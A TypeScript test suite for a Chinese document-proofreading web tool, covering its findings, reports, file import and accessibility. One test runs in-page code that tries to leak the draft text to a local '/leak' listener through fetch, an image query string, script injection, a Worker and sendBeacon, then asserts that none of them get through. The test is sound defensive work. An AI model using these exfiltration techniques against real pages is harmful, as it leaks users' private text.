import { createServer } from 'node:http';
import type { Page } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import { violations } from '../support/axe.ts';
import { openPage, useStage } from '../support/browser.ts';
import { docxOf, wordParagraphs } from '../support/docx.ts';
import { saved, savedBytes } from '../support/saved.ts';

const stage = useStage(inject('sites').main);

// Two passages of the archive's own speeches stand in it; the rest is invented.
const draft = `样例：某办公室总结
一、主要工作
（一）、信息工作。集中对关系全局发展的重大问题进行深入研究，先后完成重大调研课题21个，报送样例信息138期，其中采用80期、批示33期、专报27期。
截止目前,共接待样例来访12批。联系人手机13800138000。
三、存在问题
总得感到，样例工作还不够深入。要坚持求新、求实、求快，再接再厉。`;

async function openDraft(page: Page): Promise<void> {
  await page.goto(`${stage.site.address}workbench/draft/`);
  await page.locator('[data-open]:not([disabled])').click();
  await page.locator('wenku-draft[data-state="ready"]').waitFor();
}

async function check(page: Page, words: string): Promise<void> {
  await page.locator('[data-words]').fill(words);
  await page.getByRole('button', { name: '校稿', exact: true }).click();
  await page.locator('wenku-draft[data-state="checked"]').waitFor();
}

describe('the check of a draft', () => {
  it('lets no request leave the page while a draft is in it, whatever tries', async () => {
    const { page, errors, requests } = await openPage(stage.browser);
    await openDraft(page);
    expect(errors).toEqual([]);
    const before = requests.length;
    await check(page, draft);
    await page.locator('.finding').first().locator('.words').click();
    await page.locator('.finding').first().getByRole('button', { name: '不采纳' }).click();
    await saved(page, '报告（Markdown）');
    await savedBytes(page, '报告（Word）');
    await saved(page, '改后的稿');
    await page.keyboard.press('Control+k');
    await page.keyboard.press('Alt+c');
    expect(requests.slice(before).filter((url) => !url.startsWith('blob:'))).toEqual([]);

    const heard: string[] = [];
    const listener = createServer((request, response) => {
      heard.push(request.url ?? '');
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
    });
    await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
    const address = listener.address();
    const port = typeof address === 'object' && address ? address.port : 0;
    // The browser itself holds the page to it, and every worker that the page could make.
    const leaks = await page.evaluate(
      async ({ words, target }) => {
        const tries: [string, () => Promise<unknown>][] = [
          ['fetch', () => fetch(target, { method: 'POST', body: words })],
          [
            'image',
            () =>
              new Promise((resolve, reject) => {
                const image = new Image();
                image.addEventListener('load', resolve);
                image.addEventListener('error', reject);
                image.src = `${target}?${encodeURIComponent(words)}`;
              }),
          ],
          [
            'script',
            () =>
              new Promise((resolve, reject) => {
                const script = document.createElement('script');
                script.addEventListener('load', resolve);
                script.addEventListener('error', reject);
                script.src = `${target}.js`;
                document.head.append(script);
              }),
          ],
          [
            'worker',
            () =>
              new Promise((resolve, reject) => {
                const code = `fetch(${JSON.stringify(target)}).then(() => postMessage(1), () => postMessage(0))`;
                const worker = new Worker(URL.createObjectURL(new Blob([code])));
                worker.addEventListener('message', ({ data }) =>
                  data === 1 ? resolve(1) : reject(new Error('held')),
                );
                worker.addEventListener('error', reject);
              }),
          ],
        ];
        const gone: string[] = [];
        for (const [name, attempt] of tries) {
          await attempt().then(
            () => gone.push(name),
            () => undefined,
          );
        }
        if (navigator.sendBeacon(target, words)) await new Promise((done) => setTimeout(done, 300));
        return gone;
      },
      { words: draft, target: `http://127.0.0.1:${String(port)}/leak` },
    );
    expect(leaks).toEqual([]);
    expect(heard).toEqual([]);
    listener.close();
  });

  it('finds what stands in the archive, wrong sums, numbers, marks, words and private data', async () => {
    const { page, errors } = await openPage(stage.browser);
    await openDraft(page);
    await check(page, draft);
    const found = await page.locator('.finding').evaluateAll((cards) =>
      cards.map((card) => {
        const words = (selector: string) => card.querySelector(selector)?.textContent ?? '';
        return [words('.rank'), words('.words'), words('ins')].join('|');
      }),
    );
    expect(found).toEqual([
      '必改 标点数字|（一）、|（一）',
      '提示 文库已有|集中对关系全局发展的重大问题进行深入研究，先后完成重大调研课题21个|',
      '疑似 前后不合|138期|',
      '疑似 错别字|截止|截至',
      '必改 标点数字|,|，',
      '必改 不宜外传|13800138000|',
      '必改 层次序号|三、|',
      '疑似 错别字|总得|总的',
      '提示 文库已有|坚持求新、求实、求快|',
    ]);
    expect(await page.locator('.finding .sources a').first().getAttribute('href')).toBe(
      '/speeches/jining-half-year/#p005',
    );
    expect(await page.locator('[data-summary]').textContent()).toContain(
      '与文库的 2 篇讲稿逐字比对',
    );
    expect(errors).toEqual([]);
  });

  it('takes what is accepted into the text, and says it in the report', async () => {
    const { page } = await openPage(stage.browser);
    await openDraft(page);
    await check(page, draft);
    const judge = (words: string, name: string) =>
      page
        .locator('.finding')
        .filter({ hasText: words })
        .first()
        .getByRole('button', { name, exact: true })
        .click();
    await judge('“截止”疑为“截至”', '采纳');
    await judge('“总得”疑为“总的”', '不采纳');
    const changed = await saved(page, '改后的稿');
    expect(changed).toBe(`${draft.replace('截止', '截至')}\n`);
    const report = await saved(page, '报告（Markdown）');
    expect(report).toContain('〔采纳〕第4段“截止”');
    expect(report).toContain('〔不采纳〕第6段“总得”');
    const word = wordParagraphs(await savedBytes(page, '报告（Word）'));
    expect(word[0]).toBe('校稿报告');
    expect(word.join('|')).toContain('只是提示，改与不改由起草人决定。');
    expect(word.join('|')).toContain('第4段|截止|错别字|“截止”疑为“截至”|截至|采纳|');
    await page.getByRole('checkbox', { name: '提示' }).uncheck();
    expect(await page.locator('.finding').count()).toBe(7);
    await page.locator('.draft mark.must').last().click();
    expect(await page.locator('.finding:focus .words').textContent()).toBe('三、');
  });

  it('reads a Word file, and says of others what to do', async () => {
    const { page } = await openPage(stage.browser);
    await openDraft(page);
    const give = (name: string, buffer: Uint8Array) =>
      page
        .locator('[data-file]')
        .setInputFiles({ name, mimeType: 'application/octet-stream', buffer: Buffer.from(buffer) });
    await give('旧稿.pdf', Buffer.from('%PDF-1.4'));
    await page.locator('[data-status]').filter({ hasText: '另存为 .docx' }).waitFor();
    await give('稿.docx', docxOf('<w:p><w:r><w:t>样例会议布署了工作。</w:t></w:r></w:p>'));
    await page.locator('wenku-draft[data-state="checked"]').waitFor();
    expect(await page.locator('.finding .words').allTextContents()).toEqual(['布署']);
    await give('稿.txt', Buffer.from('样例会议布署了工作，倍受关注。'));
    await page.locator('.finding').nth(1).waitFor();
    expect(await page.locator('.finding .words').allTextContents()).toEqual(['布署', '倍受']);
  });

  it('takes a file that is dropped on the field', async () => {
    const { page } = await openPage(stage.browser);
    await openDraft(page);
    const dropped = await page.evaluateHandle(() => {
      const transfer = new DataTransfer();
      transfer.items.add(new File(['样例会议布署了工作。'], '稿.txt'));
      return transfer;
    });
    await page.locator('[data-drop]').dispatchEvent('drop', { dataTransfer: dropped });
    await page.locator('.finding').waitFor();
    expect(await page.locator('.finding .words').allTextContents()).toEqual(['布署']);
  });

  it('has no violation that axe finds, fits a phone, and has targets of 44 px', async () => {
    for (const colorScheme of ['light', 'dark'] as const) {
      const { page } = await openPage(stage.browser, {
        colorScheme,
        viewport: { width: 390, height: 800 },
      });
      await openDraft(page);
      await check(page, draft);
      expect(await violations(page)).toEqual([]);
      const small = await page
        .locator('wenku-draft :is(button, select, textarea, label.button, summary)')
        .evaluateAll((targets) =>
          targets
            .map((target) => ({ box: target.getBoundingClientRect(), words: target.outerHTML }))
            .filter(({ box }) => box.width > 0 && box.height < 44)
            .map(({ words }) => words),
        );
      expect(small).toEqual([]);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
        390,
      );
    }
  });
});
